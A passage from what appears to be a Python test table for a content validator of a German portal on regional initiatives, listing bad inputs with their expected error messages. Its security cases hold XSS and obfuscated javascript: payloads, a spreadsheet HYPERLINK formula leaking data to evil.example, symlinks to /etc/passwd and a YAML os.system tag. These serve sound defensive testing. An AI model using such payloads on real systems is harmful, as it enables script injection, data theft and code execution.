    Case("not-allowed-value", "'Masterplan' großgeschrieben",
         ("data/initiatives/masterplan-test.yaml:{line:kind: Masterplan}:1: Feld 'kind': 'Masterplan' ist kein erlaubter Wert – meinten Sie masterplan? erlaubt sind: masterplan, staerkungsinitiative, dialog, absichtserklaerung, regionale_wirtschaftsfoerderung",),
         edit=((INITIATIVE, "kind: masterplan", "kind: Masterplan"),)),
    Case("required-missing", "Pflichtfeld fehlt",
         ("data/initiatives/masterplan-test.yaml:{line:title: Masterplan Test}:1: Feld 'history': fehlt, ist aber Pflicht",),
         edit=((INITIATIVE, 'history: [{date: "2017-03-20", status: laufend, note: Die Arbeit läuft laut Pressemitteilung., sources: [pm-eins]}]\n', ""),)),
    # --- unknown and duplicate ids -----------------------------------------------------------
    Case("unknown-reference", "Tippfehler in einer id",
         ("data/measures/glasfaser.yaml:{line:owner: stadt-tset}:1: Feld 'owner': 'stadt-tset' gibt es nicht in data/organisations/ – meinten Sie stadt-test?",),
         edit=((MEASURE, "owner: stadt-test", "owner: stadt-tset"),)),
    Case("unknown-source", "Quelle, die es nicht gibt",
         ("data/organisations/kammer-test.yaml:{line:sources: [pm-zwei]}:11: Feld 'sources[1]': 'pm-zwei' gibt es nicht in data/documents/ – meinten Sie pm-eins? die neuesten Quellen: pm-eins",),
         edit=((CHAMBER, "sources: [pm-eins]", "sources: [pm-zwei]"),)),
    Case("unknown-source-by-title", "Quelle mit einer id aus ihrem Titel statt ihrer Datei (drei neueste Quellen genannt, ohne Entwurf)",
         ("data/organisations/kammer-test.yaml:{line:sources: [lenkungskreis-tagt]}:11: Feld 'sources[1]': 'lenkungskreis-tagt' gibt es nicht in data/documents/ – meinten Sie pm-drei? die neuesten Quellen: pm-drei, pm-zwei, pm-eins",),
         edit=((CHAMBER, "sources: [pm-eins]", "sources: [lenkungskreis-tagt]"),),
         write={"documents/pm-zwei.md": '---\ntitle: Haushalt beschlossen\ntype: nachricht\ndate: "2020"\n---\nText\n',
                "documents/pm-drei.md": '---\ntitle: Der Lenkungskreis tagt im Rathaus\ntype: pressemitteilung\ndate: "2021-05"\n---\nText\n',
                "documents/pm-vier.md": "---\ntitle: Ohne Datum\ntype: nachricht\ndate: unbekannt\n---\nText\n"}),
    Case("unknown-source-title-words", "Quelle mit ihrem Titel in Worten statt ihrer id",
         ("data/organisations/kammer-test.yaml:{line:sources: [Pressemitteilung eins]}:11: Feld 'sources[1]': 'Pressemitteilung eins' gibt es nicht in data/documents/ – meinten Sie pm-eins? die neuesten Quellen: pm-eins",),
         edit=((CHAMBER, "sources: [pm-eins]", "sources: [Pressemitteilung eins]"),)),
    Case("unknown-source-nothing-close", "Quelle, der keine ähnelt",
         ("data/organisations/kammer-test.yaml:{line:sources: [jahresbericht-2019]}:11: Feld 'sources[1]': 'jahresbericht-2019' gibt es nicht in data/documents/ – erlaubt sind die Dateinamen (ohne Endung) in data/documents/; die neuesten Quellen: pm-eins",),
         edit=((CHAMBER, "sources: [pm-eins]", "sources: [jahresbericht-2019]"),)),
    Case("reference-by-name", "Name statt id als Verweis",
         ("data/initiatives/masterplan-test.yaml:{line:region: Teststadt}:1: Feld 'region': 'Teststadt' gibt es nicht in data/regions/ – meinten Sie teststadt?",),
         edit=((INITIATIVE, "region: teststadt", "region: Teststadt"),)),
    Case("duplicate-yaml-yml", "dieselbe id als .yaml und .yml",
         ("data/topics/flaechen.yml:1:1: Feld 'Dateiname': die id 'flaechen' gibt es schon (data/topics/flaechen.yaml) – beide Dateien ergäben dieselbe Adresse; eine davon umbenennen oder löschen",),
         write={"topics/flaechen.yml": "name: Flächen (Kopie)\n"}),
    Case("duplicate-yaml-md", "dieselbe id als .yaml und .md",
         ("data/measures/glasfaser.yaml:1:1: Feld 'Dateiname': die id 'glasfaser' gibt es schon (data/measures/glasfaser.md) – beide Dateien ergäben dieselbe Adresse; eine davon umbenennen oder löschen",),
         write={"measures/glasfaser.md": "---\ninitiative: masterplan-test\ntitle: Glasfaser\nhistory:\n"
                "  - {date: \"2017\", status: empfohlen, sources: [pm-eins]}\nsources: [pm-eins]\n---\nText\n"}),
    Case("duplicate-milestone-id", "zwei Meilensteine mit derselben id",
         ("data/initiatives/masterplan-test.yaml:{line:- id: konferenz\n    date: Frühjahr 2018}:5: Feld 'milestones[2].id': die id 'konferenz' kommt in milestones doppelt vor – jede id nur einmal vergeben",),
         edit=((INITIATIVE, "  - id: review", "  - id: konferenz"),)),
    Case("duplicate-working-group-id", "zwei Arbeitskreise mit derselben id",
         ("data/initiatives/masterplan-test.yaml:{line:- id: ak-flaechen\n    name: Flächen II}:5: Feld 'working_groups[2].id': die id 'ak-flaechen' kommt in working_groups doppelt vor – jede id nur einmal vergeben",),
         edit=((INITIATIVE, "milestones:\n", "  - id: ak-flaechen\n    name: Flächen II\n    sources: [pm-eins]\nmilestones:\n"),)),
    Case("working-group-elsewhere", "Arbeitskreis einer anderen Initiative",
         ("data/measures/glasfaser.yaml:{line:working_group: ak-flaeche}:1: Feld 'working_group': 'ak-flaeche' ist kein Arbeitskreis der Initiative 'masterplan-test' – meinten Sie ak-flaechen?",),
         edit=((MEASURE, "working_group: ak-flaechen", "working_group: ak-flaeche"),)),
    # --- ids and file names that do not fit in an address ------------------------------------
    Case("file-name-umlaut", "Umlaut im Dateinamen",
         ("data/topics/flächen-neu.yaml:1:1: Feld 'Dateiname': 'flächen-neu.yaml' taugt nicht als Adresse der Seite: der Name enthält Umlaute oder ß – die Datei umbenennen in 'flaechen-neu.yaml'; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         write={"topics/flächen-neu.yaml": "name: Flächen neu\n"}),
    Case("file-name-space", "Leerzeichen im Dateinamen",
         ("data/topics/Neues Thema.yaml:1:1: Feld 'Dateiname': 'Neues Thema.yaml' taugt nicht als Adresse der Seite: der Name enthält Großbuchstaben und Leerzeichen – die Datei umbenennen in 'neues-thema.yaml'; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         write={"topics/Neues Thema.yaml": "name: Neues Thema\n"}),
    Case("file-name-uppercase", "Großbuchstaben im Dateinamen",
         ("data/organisations/IHK-Test.yaml:1:1: Feld 'Dateiname': 'IHK-Test.yaml' taugt nicht als Adresse der Seite: der Name enthält Großbuchstaben – die Datei umbenennen in 'ihk-test.yaml'; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         write={"organisations/IHK-Test.yaml": "name: IHK Test\ntype: kammer\nsources: [pm-eins]\n"}),
    Case("file-name-not-utf-8", "Dateiname aus einem ZIP mit alter Kodierung (Latin-1-Byte für ä)",
         ("data/topics/fl[0xE4]che.yaml:1:1: Feld 'Dateiname': 'fl[0xE4]che.yaml' taugt nicht als Adresse der Seite: der Name ist nicht in UTF-8 gespeichert (in Windows-1252 hieße er 'fläche') – die Datei umbenennen in 'flaeche.yaml'; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         write={"topics/fl\udce4che.yaml": "name: Fläche\n"}),
    Case("id-underscore", "Unterstrich in einer id",
         ("data/initiatives/masterplan-test.yaml:{line:- id: ak_flaechen}:5: Feld 'working_groups[1].id': 'ak_flaechen' ist keine gültige id: enthält Unterstriche – stattdessen 'ak-flaechen' schreiben; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         edit=((INITIATIVE, "  - id: ak-flaechen", "  - id: ak_flaechen"),)),
    # --- HTML --------------------------------------------------------------------------------
    Case("html-in-title", "<script> im Titel",
         ("data/initiatives/masterplan-test.yaml:{line:title: Masterplan <script>alert(1)</script>}:1: Feld 'title': darf keine spitzen Klammern < > enthalten (HTML ist in Namen und Titeln nicht erlaubt) – den Text ohne HTML-Tags schreiben; in Namen und Titeln gibt es keine Hervorhebungen",),
         edit=((INITIATIVE, "title: Masterplan Test", "title: Masterplan <script>alert(1)</script>"),)),
    Case("html-in-name", "HTML-Hervorhebung in einem Namen",
         ("data/organisations/kammer-test.yaml:{line:name: <b>Kammer</b> Test}:1: Feld 'name': darf keine spitzen Klammern < > enthalten (HTML ist in Namen und Titeln nicht erlaubt) – den Text ohne HTML-Tags schreiben; in Namen und Titeln gibt es keine Hervorhebungen",),
         edit=((CHAMBER, "name: Kammer Test", "name: <b>Kammer</b> Test"),)),
    Case("html-in-prose", "HTML in einer Beschreibung: angenommen und als Text gezeigt",
         (),
         edit=((TOPIC, "description: Gewerbeflächen & mehr",
                "description: \"Flächen <script>alert('korpus')</script> und <iframe src=x></iframe>\""),),
         shows_as_text=(("themen/flaechen/", "<script>alert('korpus')</script>"),
                        ("themen/flaechen/", "<iframe src=x></iframe>"))),
    # --- URLs --------------------------------------------------------------------------------
    Case("url-javascript", "javascript:-Adresse als Website",
         ("data/organisations/stadt-test.yaml:{line:website: javascript:alert(1)}:1: Feld 'website': 'javascript:alert(1)' ist keine Web-Adresse: javascript:-Adressen führen Programmcode aus; erwartet wird eine Adresse, die mit https:// beginnt",),
         edit=((CITY, "https://stadt.example/", "javascript:alert(1)"),)),
    Case("url-data", "data:-Adresse als Website",
         ("data/organisations/stadt-test.yaml:{line:website: data:text/html,<script>alert(1)</script>}:1: Feld 'website': 'data:text/html,<script>alert(1)</script>' ist keine Web-Adresse: data:-Adressen enthalten den Inhalt selbst, statt auf eine Seite zu verweisen; erwartet wird eine Adresse, die mit https:// beginnt",),
         edit=((CITY, "https://stadt.example/", "data:text/html,<script>alert(1)</script>"),)),
    Case("url-ftp", "ftp:-Adresse als Quelle",
         ("data/documents/pm-eins.md:{line:url: ftp://stadt.example/pm.pdf}:1: Feld 'url': 'ftp://stadt.example/pm.pdf' ist keine Web-Adresse: ftp:-Adressen öffnen Browser nicht mehr; erwartet wird eine Adresse, die mit https:// beginnt",),
         edit=((PRESS, "url: https://stadt.example/pm", "url: ftp://stadt.example/pm.pdf"),)),
    Case("url-without-scheme", "Adresse ohne https://",
         ("data/documents/pm-eins.md:{line:url: www.stadt.example/pm}:1: Feld 'url': 'www.stadt.example/pm' ist keine vollständige Web-Adresse: vorn fehlt https:// – 'https://www.stadt.example/pm' schreiben",),
         edit=((PRESS, "url: https://stadt.example/pm", "url: www.stadt.example/pm"),)),
    # --- front matter ------------------------------------------------------------------------
    Case("front-matter-missing", "Markdown-Datei ohne Kopfdaten",
         ("data/documents/neu.md:1:1: Kopfdaten (Front Matter) fehlen oder sind nicht abgeschlossen – die erste Zeile muss --- sein, dann die Felder, dann wieder eine Zeile ---",),
         write={"documents/neu.md": "title: Neu\n\nText\n"}),
    Case("front-matter-unterminated", "Kopfdaten ohne abschließende Zeile ---",
         ("data/documents/neu.md:1:1: Kopfdaten (Front Matter) fehlen oder sind nicht abgeschlossen – die Kopfdaten werden nicht mit einer Zeile --- abgeschlossen",),
         write={"documents/neu.md": "---\ntitle: Neu\ntype: nachricht\n\nText\n"}),
    Case("front-matter-list", "Kopfdaten als Liste",
         ("data/documents/neu.md:2:1: Die Kopfdaten sind eine Liste (Zeilen mit '- '); erwartet werden Felder der Form 'name: wert' – je Datei ein Eintrag: das '- ' vor dem ersten Feld entfernen und die Felder nicht einrücken",),
         write={"documents/neu.md": "---\n- title: Neu\n- type: nachricht\n---\nText\n"}),
    Case("front-matter-body", "body in den Kopfdaten einer Quelle",
         ("data/documents/pm-eins.md:{line:body: Kurzfassung}:1: Feld 'body': gehört nicht in die Kopfdaten – den Text nur unter der zweiten Zeile --- schreiben",),
         edit=((PRESS, "topics: [flaechen]\n---", "topics: [flaechen]\nbody: Kurzfassung\n---"),)),
    Case("front-matter-description-twice", "Beschreibung in den Kopfdaten und als Text darunter",
         ("data/measures/fertig.md:{line:description: Kurz}:1: Feld 'description': steht doppelt: in den Kopfdaten und als Text unter den Kopfdaten – den Text nur unter der zweiten Zeile --- schreiben",),
         edit=((MEASURE_MD, 'target: "2018"', 'target: "2018"\ndescription: Kurz'),)),
    # --- files in the wrong place ------------------------------------------------------------
    Case("wrong-suffix", "Textdatei in topics/",
         ("data/topics/neu.txt:1:1: Die Endung '.txt' passt nicht in topics/ – erwartet werden Dateien mit der Endung .yaml oder .yml",),
         write={"topics/neu.txt": "name: Neu\n"}),
    Case("yaml-in-documents", "Quelle als YAML statt Markdown",
         ("data/documents/pm-zwei.yaml:1:1: Die Endung '.yaml' passt nicht in documents/ – erwartet werden Dateien mit der Endung .md: Markdown mit den Kopfdaten zwischen zwei Zeilen ---",),
         write={"documents/pm-zwei.yaml": "title: Zwei\ntype: nachricht\ndate: \"2020\"\n"}),
    Case("unknown-folder", "Ordner mit deutschem Namen",
         ("data/massnahmen/neu.yaml:1:1: Der Ordner 'massnahmen/' ist unbekannt; die Datei wird nicht gelesen – meinten Sie data/measures/?",),
         write={"massnahmen/neu.yaml": "title: Neu\n"}),
    Case("file-in-data-root", "Datei direkt in data/",
         ("data/notizen.yaml:1:1: Die Datei liegt direkt in data/ und wird nicht gelesen – in einen der Ordner documents, initiatives, measures, organisations, people, regions, topics legen",),
         write={"notizen.yaml": "todo: alles\n"}),
    # --- honest progress (issue 10): what the model refuses so that nothing reads stronger than its source
    Case("person-without-public-role", "Pressekontakt als Person angelegt: keine öffentliche Rolle in einer Initiative",
         ("data/people/max-presse.yaml:1:1: Feld 'name': 'Max Presse' hat keine öffentliche Rolle in einer Initiative: eine Personenseite gibt es nur für Beteiligte, Vorsitzende, Geschäftsführungen und Personen mit einer Stellungnahme – die Person in einer Initiative eintragen (participants: person, chairs, management oder statements) oder die Datei löschen; Pressekontakte und Ansprechpartner bekommen keine eigene Seite",),
         write={"people/max-presse.yaml": "name: Max Presse\nroles:\n  - organisation: stadt-test\n    role: Pressekontakt\n    sources: [pm-eins]\n"}),
    Case("region-description-without-source", "Beschreibung einer Region ohne Quelle",
         ("data/regions/neu.yaml:1:1: description enthält Angaben, aber sources fehlt – die Quellen der Beschreibung als sources: [id-der-quelle] angeben, oder description leeren",),
         write={"regions/neu.yaml": "name: Neustadt\nkind: stadt\ndescription: Rund 18.000 Beschäftigte in der Industrie.\n"}),
    Case("selection-label-without-total", "total_label ohne total",
         ("data/initiatives/masterplan-test.yaml:{line:measures_listed:}:1: Feld 'measures_listed': total_label steht da, aber total fehlt – die Zahl aus der Quelle als total eintragen, oder total_label löschen",),
         edit=((INITIATIVE, "working_groups:", "measures_listed:\n  scope: beispiele\n  total_label: Projekte\n  sources: [pm-eins]\nworking_groups:"),)),
    Case("wrong-collection", "Maßnahme im Ordner der Initiativen",
         ("data/initiatives/neue-massnahme.yaml:1:1: Das Feld initiative gehört zu einer Datei in measures/, nicht in initiatives/ – die Datei nach data/measures/ verschieben",),
         write={"initiatives/neue-massnahme.yaml": "initiative: masterplan-test\ntitle: Neu\n"
                "history:\n  - date: \"2020\"\n    status: empfohlen\n    sources: [pm-eins]\nsources: [pm-eins]\n"}),
    Case("top-level-list", "ganze Datei als Liste",
         ("data/topics/neu.yaml:1:1: Die Datei ist eine Liste (Zeilen mit '- '); erwartet werden Felder der Form 'name: wert' – je Datei ein Eintrag: das '- ' vor dem ersten Feld entfernen und die Felder nicht einrücken",),
         write={"topics/neu.yaml": "- name: Neu\n  description: Text\n"}),
    Case("draft-reference", "Verweis auf einen Entwurf",
         ("data/organisations/kammer-test.yaml:{line:sources: [entwurf]}:11: Feld 'sources[1]': die Quelle 'entwurf' ist ein Entwurf (draft: true) – eine Quelle muss veröffentlicht sein, bevor sich Angaben darauf stützen",),
         edit=((CHAMBER, "sources: [pm-eins]", "sources: [entwurf]"),)),
    Case("participant-both", "Beteiligter mit organisation und group",
         ("data/initiatives/masterplan-test.yaml:{line:- organisation: stadt-test}:5: Feld 'participants[1]': braucht genau eines der Felder organisation (eine id) oder group (eine Beschreibung) – organisation und group stehen beide da: group nur verwenden, wenn die Quelle keine Organisation nennt",),
         edit=((INITIATIVE, "    role: leitung\n", "    group: Stadtrat\n    role: leitung\n"),)),
    # --- security: links and images as the browser reads them -------------------------------
    Case("link-javascript-entities", "javascript:-Link, versteckt hinter HTML-Zeichencodes",
         ("data/topics/a.yaml:2:1: Feld 'description': der Link 'javascript&colon;alert(document.domain)' (im Browser: 'javascript:alert(document.domain)') wird nicht angezeigt: javascript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
          "data/topics/b.yaml:2:1: Feld 'description': der Link 'javascript&#58;alert(1)' (im Browser: 'javascript:alert(1)') wird nicht angezeigt: javascript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
          "data/topics/c.yaml:2:1: Feld 'description': der Link '&#106;avascript:alert(1)' (im Browser: 'javascript:alert(1)') wird nicht angezeigt: javascript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website"),
         write={"topics/a.yaml": "name: A\ndescription: '[Klick](javascript&colon;alert(document.domain))'\n",
                "topics/b.yaml": "name: B\ndescription: '[Klick](javascript&#58;alert(1))'\n",
                "topics/c.yaml": "name: C\ndescription: '[Klick](&#106;avascript:alert(1))'\n"}),
    Case("link-other-schemes", "data:-, vbscript:-Link, Pfad auf dem eigenen Rechner und // ohne Protokoll",
         ("data/documents/pm-zwei.md:6:1: Feld 'body': der Link 'data:text/html,x' wird nicht angezeigt: data:-Adressen enthalten den Inhalt selbst, statt auf eine Seite zu verweisen – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
          "data/documents/pm-zwei.md:7:1: Feld 'body': der Link 'VBScript:msgbox(1)' wird nicht angezeigt: vbscript:-Adressen führen Programmcode aus – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
          "data/documents/pm-zwei.md:8:1: Feld 'body': der Link 'C:\\Users\\pm.docx' wird nicht angezeigt: das ist ein Pfad auf dem eigenen Rechner – erlaubt sind Adressen mit https://, http://, mailto: und Seiten dieser Website",
          "data/documents/pm-zwei.md:9:1: Feld 'body': der Link '//stadt.example/pm' wird nicht angezeigt: beginnt mit zwei Schrägstrichen und zeigt damit auf eine andere Website – die Adresse vollständig schreiben: https://stadt.example/pm"),
         write={"documents/pm-zwei.md": '---\ntitle: Zwei\ntype: nachricht\ndate: "2020"\n---\n[eins](data:text/html,x)\n[zwei](VBScript:msgbox(1))\n'
                '[drei](C:\\Users\\pm.docx)\n[vier](//stadt.example/pm)\n[fünf](https://stadt.example/ok) [sechs](../../partner/) [sieben](mailto:presse@stadt.example)\n'}),
    Case("image-other-host", "Bilder von anderen Websites, auch über \\, &#47; und https: ohne //",
         ("data/documents/pm-zwei.md:7:1: Feld 'body': das Bild '/\\evil.example/p.png' wird nicht angezeigt: beginnt mit zwei Schrägstrichen und zeigt damit auf eine andere Website – die Adresse vollständig schreiben: https://evil.example/p.png",
          "data/documents/pm-zwei.md:8:1: Feld 'body': das Bild '&#47;/evil.example/q.png' (im Browser: '//evil.example/q.png') wird nicht angezeigt: beginnt mit zwei Schrägstrichen und zeigt damit auf eine andere Website – die Adresse vollständig schreiben: https://evil.example/q.png",
          "data/documents/pm-zwei.md:9:1: Feld 'body': das Bild 'https:evil.example/z.png' wird nicht angezeigt: nach https: fehlen die zwei Schrägstriche und der Name der Website – die Adresse vollständig schreiben: https://evil.example/z.png",
          "data/documents/pm-zwei.md:10:1: Feld 'body': das Bild 'https://evil.example/logo.png' wird nicht angezeigt: lädt ein Bild von einer anderen Website, die so von jedem Besuch erführe – das Bild nicht einbinden, sondern verlinken: [Beschreibung](https://…) ohne ! davor"),
         write={"documents/pm-zwei.md": '---\ntitle: Zwei\ntype: nachricht\ndate: "2020"\n---\nText.\n![x](/\\evil.example/p.png)\n'
                '![y](&#47;/evil.example/q.png)\n![z](https:evil.example/z.png)\n![Logo](https://evil.example/logo.png)\n'}),
    Case("entity-in-title", "HTML-Zeichencodes in einem Titel",
         ("data/initiatives/masterplan-test.yaml:{line:title: \"A &lt;/title&gt; B\"}:1: Feld 'title': enthält den HTML-Zeichencode '&lt;', den Browser als '<' anzeigen – spitze Klammern sind in Namen und Titeln nicht erlaubt; den Text ohne sie schreiben",
          "data/topics/neu.yaml:1:1: Feld 'name': enthält den HTML-Zeichencode '&auml;', den Browser als 'ä' anzeigen – das Zeichen selbst schreiben: 'ä' statt '&auml;'"),
         edit=((INITIATIVE, "title: Masterplan Test", 'title: "A &lt;/title&gt; B"'),),
         write={"topics/neu.yaml": "name: Gewerbefl&auml;chen & Handwerk\n"}),
    Case("ampersand-in-name", "ein einfaches & in Namen und Titeln: angenommen",
         (),
         edit=((CHAMBER, "name: Kammer Test", "name: Kammer Test & Partner"), (INITIATIVE, "title: Masterplan Test", "title: Masterplan Test & AT&T")),
         shows_as_text=(("partner/kammer-test/", "Kammer Test & Partner"),)),
    Case("formula-title", "Titel und Namen, die mit = + - @ beginnen: angenommen (die CSV-Datei entschärft sie)",
         (),
         edit=((MEASURE, "title: Glasfaser bis 2020", 'title: \'=HYPERLINK("https://evil.example/?"&A1,"Details")\''),
               (CHAMBER, "name: Kammer Test", 'name: "@Kammer Test"')),
         shows_as_text=(("massnahmen/glasfaser/", '=HYPERLINK("https://evil.example/?"&A1,"Details")'),)),
    # --- security: files outside data/ -------------------------------------------------------
    Case("symlink-outside", "symbolische Verknüpfungen auf Dateien außerhalb des Projekts",
         ("data/organisations/geheim.yaml:1:1: ist eine symbolische Verknüpfung (Symlink) und wird nicht gelesen – die Datei oder den Ordner selbst hierher legen; Verknüpfungen könnten Dateien außerhalb des Projekts veröffentlichen",
          "data/topics/passwort.yaml:1:1: ist eine symbolische Verknüpfung (Symlink) und wird nicht gelesen – die Datei oder den Ordner selbst hierher legen; Verknüpfungen könnten Dateien außerhalb des Projekts veröffentlichen"),
         links=(("topics/passwort.yaml", "/etc/passwd"), ("organisations/geheim.yaml", "../../../geheim.yaml"))),
    Case("symlink-folder", "ein Ordner als symbolische Verknüpfung",
         ("data/regions/mehr:1:1: ist eine symbolische Verknüpfung (Symlink) und wird nicht gelesen – die Datei oder den Ordner selbst hierher legen; Verknüpfungen könnten Dateien außerhalb des Projekts veröffentlichen",),
         links=(("regions/mehr", "/etc"),)),
    Case("empty-folder-named-like-a-file", "ein leerer Ordner namens neu.yaml",
         ("data/topics/neu.yaml:1:1: 'neu.yaml' ist ein leerer Ordner, keine Datei – den Ordner löschen; Inhalte sind Dateien direkt in data/topics/",),
         folders=("topics/neu.yaml",)),
    # --- accepted by the check, then the build crashed ---------------------------------------
    Case("region-self-parent", "Region als ihre eigene übergeordnete Region",
         ("data/regions/teststadt.yaml:{line:parent: teststadt}:1: Feld 'parent': die Region ist als ihre eigene übergeordnete Region eingetragen – parent nennt die nächstgrößere Region; zuoberst steht das Land, ohne parent",),
         edit=((("regions/teststadt.yaml"), "parent: land", "parent: teststadt"),)),
    Case("region-cycle", "zwei Regionen, die einander als übergeordnete Region nennen",
         ("data/regions/land.yaml:{line:parent: teststadt}:1: Feld 'parent': die Regionen verweisen im Kreis aufeinander: land → teststadt → land – parent nennt die nächstgrößere Region; zuoberst steht das Land, ohne parent",
          "data/regions/teststadt.yaml:{line:parent: land}:1: Feld 'parent': die Regionen verweisen im Kreis aufeinander: teststadt → land → teststadt – parent nennt die nächstgrößere Region; zuoberst steht das Land, ohne parent"),
         edit=((("regions/land.yaml"), "kind: land", "kind: land\nparent: teststadt"),)),
    Case("number-too-large", "Kennzahl mit 29 Stellen",
         ("data/initiatives/masterplan-test.yaml:{line:value: 11111111111111111111111111111}:5: Feld 'key_figures[1].value': ist zu groß: erlaubt sind Zahlen bis 1.000.000.000.000.000 – Tippfehler? Große Beträge in einer größeren Einheit schreiben, z. B. value: 2.5 mit unit: Milliarden Euro",),
         edit=((INITIATIVE, "value: 100000", "value: 11111111111111111111111111111"),)),
    Case("number-exponent", "Kennzahl 1.0e+30",
         ("data/initiatives/masterplan-test.yaml:{line:value: 1.0e+30}:5: Feld 'key_figures[1].value': ist zu groß: erlaubt sind Zahlen bis 1.000.000.000.000.000 – Tippfehler? Große Beträge in einer größeren Einheit schreiben, z. B. value: 2.5 mit unit: Milliarden Euro",),
         edit=((INITIATIVE, "value: 100000", "value: 1.0e+30"),)),
    Case("number-nan", "Kennzahl .nan",
         ("data/initiatives/masterplan-test.yaml:{line:value: .nan}:5: Feld 'key_figures[1].value': ist keine Zahl (.nan steht in YAML für 'keine Zahl') – die Zahl aus der Quelle eintragen",),
         edit=((INITIATIVE, "value: 100000", "value: .nan"),)),
    Case("number-infinite", "Kennzahlen .inf und 1.0e+400",
         ("data/initiatives/masterplan-test.yaml:{line:value: 1.0e+400}:5: Feld 'key_figures[1].value': ist unendlich (.inf, oder eine Zahl mit mehr als 308 Stellen) – die Zahl aus der Quelle eintragen",),
         edit=((INITIATIVE, "value: 100000", "value: 1.0e+400"),)),
    Case("number-endless", "eine Zahl mit 5.000 Ziffern",
         ("data/topics/zahl.yaml:2:14: Feld 'description': die Zahl hat 5.000 Stellen und ist damit viel zu lang – Tippfehler? Zahlen ohne Tausenderpunkte und höchstens mit 15 Stellen schreiben",),
         write={"topics/zahl.yaml": endless_number}),
    Case("working-group-size-huge", "Größe eines Arbeitskreises mit zu vielen Stellen",
         ("data/initiatives/masterplan-test.yaml:{line:size: {min: 15, max: 20000000}}:21: Feld 'working_groups[1].size.max': 20000000 ist zu groß – erwartet wird höchstens 100000",),
         edit=((INITIATIVE, "size: {min: 15, max: 20}", "size: {min: 15, max: 20000000}"),)),
    Case("date-year-9999", "Zieltermin 'Winter 9999'",
         ("data/measures/glasfaser.yaml:{line:target: \"Winter 9999\"}:1: Feld 'target': 'Winter 9999': das Jahr 9999 liegt außerhalb von 1900 bis 2100 – Tippfehler im Jahr?",),
         edit=((MEASURE, 'target: "2020"', 'target: "Winter 9999"'),)),
    Case("date-year-0000", "Datum '0000' in einer Quelle und als Zieltermin",
         ("data/documents/pm-eins.md:{line:date: \"0000\"}:1: Feld 'date': '0000': das Jahr 0 liegt außerhalb von 1900 bis 2100 – Tippfehler im Jahr?",
          "data/measures/fertig.md:{line:target: \"0000\"}:1: Feld 'target': '0000': das Jahr 0 liegt außerhalb von 1900 bis 2100 – Tippfehler im Jahr?"),
         edit=((PRESS, 'date: "2017-03-20"', 'date: "0000"'), (MEASURE_MD, 'target: "2018"', 'target: "0000"'))),
    Case("id-index", "Datei namens index.yaml",
         ("data/topics/index.yaml:1:1: Feld 'Dateiname': die id 'index' ist nicht möglich: /themen/ ist die Übersichtsseite (docs/themen/index.md) – die Datei umbenennen; der Name wird Teil der Adresse, am besten nach dem Namen oder Titel des Eintrags",),
         write={"topics/index.yaml": "name: Übersicht\n"}),
    Case("yaml-tags", "YAML-Typangaben auf einer Liste, einem Abschnitt und einem Wert",
         ("data/organisations/kammer-test.yaml:{line:sources: !!python/object/apply:os.system [pm-eins]}:10: Feld 'sources': '!!python/object/apply:os.system' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen",
          "data/topics/a.yaml:2:10: Feld 'sources': '!ENV' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen",
          "data/topics/b.yaml:1:7: Feld 'name': '!!binary' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen",
          "data/topics/c.yaml:2:14: Feld 'description': '!!set' vor dem Wert ist eine YAML-Typangabe und nicht erlaubt – die Typangabe löschen; Text, der mit ! beginnt, in Anführungszeichen \"…\" setzen"),
         edit=((CHAMBER, "sources: [pm-eins]", "sources: !!python/object/apply:os.system [pm-eins]"),),
         write={"topics/a.yaml": "name: A\nsources: !ENV [x]\n", "topics/b.yaml": "name: !!binary aGVsbG8=\n",
                "topics/c.yaml": "name: C\ndescription: !!set {a, b}\n"}),
    Case("file-name-nfd", "Dateiname mit ä in zerlegter Form (macOS, NFD)",
         ("data/topics/fla\u0308chen-neu.yaml:1:1: Feld 'Dateiname': 'fla\u0308chen-neu.yaml' taugt nicht als Adresse der Seite: der Name enthält Umlaute oder ß – die Datei umbenennen in 'flaechen-neu.yaml'; erlaubt sind nur Kleinbuchstaben a–z, Ziffern und einzelne Bindestriche (Umlaute als ae, oe, ue, ß als ss)",),
         write={"topics/fla\u0308chen-neu.yaml": "name: Flächen neu\n"}),
    Case("dense-files", "zehn Dateien knapp unter der Größengrenze, voller Werte",
         tuple(f"data/topics/dicht-{n}.yaml:3:59999: Die Datei enthält zu viele Einträge: mehr als 20.000 Werte; so viele liest das Portal aus einer Datei nicht – die Inhalte auf mehrere Dateien verteilen"
               for n in range(10)),
         write={f"topics/dicht-{n}.yaml": dense_file for n in range(10)}),
    Case("several-files-at-once", "mehrere Fehler in mehreren Dateien: alle auf einmal",
         ("data/regions/c.yaml:2:1: Feld 'kind': 'dorf' ist kein erlaubter Wert – erlaubt sind: stadt, kreis, region, land",
          "data/topics/a.yaml:2:1: Feld 'titel': ist kein bekanntes Feld – bekannte Felder: description, name",
          "data/topics/b.yaml:2:1: YAML-Syntaxfehler: die Datei endet, bevor eine mit [ oder { begonnene Liste geschlossen ist – die Klammer schließen: ] zu [ und } zu {"),
         write={"topics/a.yaml": "name: A\ntitel: x\n", "topics/b.yaml": "name: [\n",
                "regions/c.yaml": "name: C\nkind: dorf\nparent: nirgendwo\n"}),
    # --- official keys of regions (ars, the map) -------------------------------------------------
    Case("ars-unquoted", "Regionalschlüssel ohne Anführungszeichen (YAML liest eine Zahl)",
